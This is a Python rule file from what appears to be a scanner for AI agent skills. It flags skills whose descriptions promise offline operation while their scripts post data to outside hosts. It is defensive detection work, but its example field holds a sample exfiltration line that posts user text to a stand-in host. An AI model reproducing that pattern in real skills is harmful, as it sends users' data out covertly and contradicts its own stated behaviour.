"""The skill says that nothing leaves the machine, and sends something."""

import re
from collections.abc import Iterator

from clawft.scan.facts import Kind
from clawft.scan.ownership import is_foreign
from clawft.scan.rule import Hit, Rule
from clawft.scan.subject import Subject
from clawft.scan.vocabulary.hosts import host_of

__all__ = ["RULE"]

_NO_NETWORK = re.compile(
    r"\b(without (any )?(network|internet)( access)?|no (network|internet) (access|calls?|connection|requests?)"
    r"|(fully|completely|entirely|100%) (offline|local)|works? offline"
    r"|no (external|outside) (api|network|server|service)s?( calls?)?|(nothing|no data) (ever )?leaves"
    r"|never (sends?|uploads?|leaves)|no data (is )?(sent|uploaded|transmitted))\b",
    re.IGNORECASE,
)


def check_claim_contradicted(subject: Subject) -> Iterator[Hit]:
    description = subject.skill.description if subject.skill else ""
    claim = _NO_NETWORK.search(description)
    if not claim:
        return
    for fact in subject.of(Kind.SEND):
        if "fence" not in fact.document.origin and is_foreign(subject, fact.target):
            yield Hit(fact, f"The description says “{claim[0]}”, but data is sent to {host_of(fact.target)}", 0.8)


RULE = Rule(
    id="claim-contradicted",
    title="It sends data though it says that it does not",
    severity="critical",
    category="exfiltration",
    what="The description promises that nothing leaves the machine, and a script sends data to a stranger's host.",
    why="A skill that lies about the network hides what it does with the data it is given.",
    example="description: works offline … requests.post('https://api.example.net', json={'text': text})",
    counter_example="description: works offline … requests.get('http://localhost:11434/api/tags')",
    fix="Say what is sent and where to, or do not send it.",
    check=check_claim_contradicted,
    owasp="AST04",
    atlas="AML.T0025",
)
